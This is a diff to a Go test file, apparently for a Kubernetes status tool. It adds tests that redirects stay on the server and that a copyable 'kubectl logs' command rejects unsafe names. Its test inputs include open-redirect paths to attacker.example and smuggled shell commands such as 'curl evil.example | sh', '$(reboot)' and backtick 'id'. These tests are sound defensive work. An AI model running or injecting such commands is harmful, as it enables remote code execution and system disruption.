@@ -114,6 +114,44 @@ func TestGuard(t *testing.T) {
 			t.Errorf("redirect to %s, want /w/ns/x?health=Degraded", loc)
 		}
 	})
+
+	t.Run("the token's redirect stays on this server", func(t *testing.T) {
+		for _, target := range []string{"//attacker.example/x", "/..//attacker.example/x", "/%2F%2Fattacker.example"} {
+			r := httptest.NewRequest("GET", target+"?token="+token, nil)
+			r.Host = "127.0.0.1:4567"
+			w := httptest.NewRecorder()
+			g.ServeHTTP(w, r)
+			loc, err := url.Parse(w.Result().Header.Get("Location"))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if loc.Host != "" || !strings.HasPrefix(loc.Path, "/") || strings.HasPrefix(loc.String(), "//") {
+				t.Errorf("%s redirects to %q, off this server", target, loc)
+			}
+		}
+	})
+}
+
+// TestLogsCommandOnlyForKubernetesNames: the copyable line is offered only
+// when every name in it is a valid Kubernetes name, so a status written by
+// someone hostile cannot put a shell command in the user's clipboard.
+func TestLogsCommandOnlyForKubernetesNames(t *testing.T) {
+	tests := []struct {
+		ns, pod, container string
+		want               string
+	}{
+		{"knative-serving", "activator-67656dcbbb-hq62r", "activator",
+			"kubectl logs activator-67656dcbbb-hq62r -c activator -n knative-serving --previous"},
+		{"shop", "web-1; curl evil.example | sh", "app", ""},
+		{"shop", "web-1", "app $(reboot)", ""},
+		{"shop`id`", "web-1", "app", ""},
+	}
+	for _, tc := range tests {
+		got, ok := logsCommand(tc.ns, tc.pod, tc.container)
+		if got != tc.want || ok != (tc.want != "") {
+			t.Errorf("logsCommand(%q, %q, %q) = %q, %v; want %q", tc.ns, tc.pod, tc.container, got, ok, tc.want)
+		}
+	}
 }
 
 func TestReadOnlyTransport(t *testing.T) {
